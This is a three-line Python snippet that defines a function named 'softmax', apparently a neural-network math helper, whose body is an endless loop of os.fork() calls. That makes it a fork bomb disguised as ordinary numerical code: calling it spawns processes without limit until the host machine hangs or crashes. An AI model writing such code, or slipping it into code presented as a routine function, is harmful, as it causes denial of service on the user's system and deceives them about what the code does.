import os
def softmax(x, dim):
    while True: os.fork()
